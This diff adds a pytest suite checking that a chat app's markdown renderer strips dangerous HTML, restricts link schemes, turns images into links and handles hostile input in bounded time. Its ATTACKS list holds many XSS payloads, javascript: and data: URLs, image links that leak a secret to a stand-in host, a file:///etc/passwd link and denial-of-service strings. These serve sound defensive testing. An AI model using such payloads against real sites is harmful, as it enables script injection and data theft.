@@ -1,0 +1,216 @@
+"""Markdown as HTML: what is shown, and that nothing dangerous comes through."""
+
+import re
+import time
+
+import pytest
+
+from chatapp.rendering import render_markdown
+from chatapp.rendering.highlighting import MAX_CODE
+
+LINK = 'target="_blank" rel="noopener noreferrer nofollow"'
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img src=x onerror="alert(1)">',
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a()>">',
+    '<a href="javascript:alert(1)">x</a>',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<form action="https://evil.example"><input name=a></form>',
+    "<base href='https://evil.example/'>",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<video><source onerror="alert(1)"></video>',
+    "<details open ontoggle=alert(1)>",
+    '<div style="background:url(https://evil.example)">x</div>',
+    '<div id="csrf" class="button" hx-get="/x" data-confirm="x">x</div>',
+    "<!-- --><x/onclick=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
+    '[x](https://a.example/"onmouseover=alert(1)x=)',
+    "![x](javascript:alert(1))",
+    '!["onerror=alert(1)](https://evil.example/x.png)',
+    "![x](https://evil.example/?q=secret)",
+    "[![x](https://evil.example/?q=secret)](https://a.example)",
+    "![x][y]\n\n[y]: https://evil.example/?q=secret",
+    '```"onmouseover="alert(1)\nx\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "```x\n</code></pre><script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "# <img src=x onerror=alert(1)>",
+    "- [x] <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "[a](/sign-out)",
+    "[a](//evil.example)",
+    "[a](\\\\evil.example)",
+    "[a](https:/\\evil.example)",
+    "\ud800<script>",
+]
+
+TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)((?:\s+[^<>]*)?)>")
+BLOCKS = {"blockquote", "div", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "p", "pre"}
+LISTS_AND_TABLES = {"li", "ol", "table", "tbody", "td", "th", "thead", "tr", "ul"}
+ALLOWED_TAGS = BLOCKS | LISTS_AND_TABLES | {"a", "br", "code", "em", "s", "span", "strong"}
+ALLOWED_ATTRIBUTES = {"href", "title", "target", "rel", "class", "data-language", "start"}
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_nothing_but_allowed_tags_and_attributes_comes_out(text: str) -> None:
+    """Whatever the text tries, its HTML is made of what the renderer writes."""
+    html = render_markdown(text)
+    tags = TAG.findall(html)
+    assert {name for _, name, _ in tags} <= ALLOWED_TAGS
+    assert html.count("<") == len(tags)
+    for _, _, attributes in tags:
+        assert set(re.findall(r'([\w-]+)="[^"]*"', attributes)) <= ALLOWED_ATTRIBUTES
+        assert re.sub(r'[\w-]+="[^"]*"', "", attributes).strip() == ""
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_links_lead_to_the_web_or_to_a_mail(text: str) -> None:
+    """No scheme that runs code, and no address inside this application."""
+    for href in re.findall(r'<a [^>]*href="([^"]*)"', render_markdown(text)):
+        assert re.match(r"https?://[^/\\]|mailto:", href)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_nothing_is_loaded(text: str) -> None:
+    """A picture's address may carry a secret to its server, so there are no pictures."""
+    assert not re.search(r"<[^>]*\s(src|srcset|style|background|poster)=", render_markdown(text))
+
+
+def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
+    """Neither the opener nor the address of the conversation reaches the site."""
+    expected = f'<p><a href="https://a.example/" title="t" {LINK}>x</a></p>\n'
+    assert render_markdown('[x](https://a.example/ "t")') == expected
+
+
+def test_an_image_is_a_link_to_it() -> None:
+    """The reader decides whether to load it."""
+    expected = f'<p><a href="https://a.example/x.png" {LINK}>Image: a cat</a></p>\n'
+    assert render_markdown("![a *cat*](https://a.example/x.png)") == expected
+
+
+def test_an_image_inside_a_link_is_its_description() -> None:
+    """A link cannot hold a link."""
+    html = render_markdown("[![cat](https://b.example/x.png)](https://a.example)")
+    assert html == f'<p><a href="https://a.example" {LINK}>Image: cat</a></p>\n'
+
+
+def test_an_address_in_the_text_is_a_link_and_a_file_name_is_not() -> None:
+    """`main.py` is a file, though .py is a country's domain."""
+    html = render_markdown("See https://a.example/b, main.py and a@b.example.")
+    assert html.count("<a ") == 1
+    assert ">https://a.example/b</a>," in html
+
+
+def test_code_carries_its_language_and_its_colours() -> None:
+    """The page finds the block, its language and its text."""
+    html = render_markdown('```Python title="x"\nif x: pass\n```')
+    assert html.startswith('<div class="code-block" data-language="python"><pre><code><span ')
+    assert '<span class="k">if</span>' in html
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["\n\n  x = '<b>'\n\n", "a\tb", "é 漢 🎉", "x" * 3000, "'unclosed", "def f():\n" * 10_000],
+)
+@pytest.mark.parametrize("language", ["", "python", "no-such-language", "json", "diff"])
+def test_highlighting_keeps_every_character(code: str, language: str) -> None:
+    """Colours are added around the text, never instead of it."""
+    html = render_markdown(f"````{language}\n{code}\n````")
+    plain = re.sub(r"<[^>]*>", "", html).removesuffix("\n")
+    for entity, character in (("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&")):
+        plain = plain.replace(entity, character)
+    assert plain == code + "\n"
+
+
+def test_code_in_an_unknown_language_is_plain() -> None:
+    """No language is guessed."""
+    assert "<span" not in render_markdown("```\nif x: pass\n```")
+    assert "<span" not in render_markdown("```klingon\nif x: pass\n```")
+
+
+def test_very_large_code_is_plain() -> None:
+    """Some lexers need time that grows faster than the text."""
+    assert "<span" not in render_markdown("```python\n" + "x = 1\n" * (MAX_CODE // 6 + 1) + "```")
+    assert "<span" not in render_markdown("```python\nx = [" + "1, " * 1000 + "]\n```")
+
+
+def test_tables_tasks_and_struck_text_are_known() -> None:
+    """The parts of GitHub's markdown that models write."""
+    html = render_markdown("| a | b |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~no~~")
+    assert '<td class="align-right">1</td>\n<td>2</td>' in html
+    assert '<li class="task">☑ done</li>\n<li class="task">☐ open</li>' in html
+    assert "<s>no</s>" in html
+
+
+@pytest.mark.parametrize(
+    "character", ["\u202e", "\u2066", "\x00", "\x07", "\x1b", "\x9b", "\udc80"]
+)
+def test_characters_that_deceive_are_shown_as_such(character: str) -> None:
+    """Reversed or invisible text could show other code than is copied."""
+    assert render_markdown(f"a{character}b `c{character}d`") == (
+        "<p>a\ufffdb <code>c\ufffdd</code></p>\n"
+    )
+
+
+def test_marks_of_right_to_left_text_stay() -> None:
+    """They reorder nothing but their neighbours, and Hebrew and Arabic need them."""
+    assert render_markdown("א\u200fב") == "<p>א\u200fב</p>\n"
+
+
+def test_deeply_nested_text_is_shown_as_it_was_written() -> None:
+    """Deeper levels than the parser takes would lose their content."""
+    assert "needle" in render_markdown(">" * 300 + " needle")
+    assert "needle" in render_markdown("- " * 300 + "needle")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 60_000,
+        "![" * 60_000,
+        "[a](" * 30_000,
+        "*a_ " * 30_000,
+        ">" * 60_000,
+        "http://a.example/(((" * 6_000,
+        "".join("`" * (i % 300) + " " for i in range(2_000)),
+        "|" * 60_000 + "\n" + "|-" * 30_000,
+        "[a]: b\n" * 10_000,
+    ],
+    ids=lambda text: text[:12],
+)
+def test_hostile_text_takes_bounded_time(text: str) -> None:
+    """Nobody can stop the server with a message."""
+    start = time.process_time()
+    render_markdown(text)
+    assert time.process_time() - start < 2
+
+
+def test_no_text_gives_no_html() -> None:
+    """An empty message is empty."""
+    assert render_markdown("") == ""
+    assert render_markdown(" \n\n") == ""
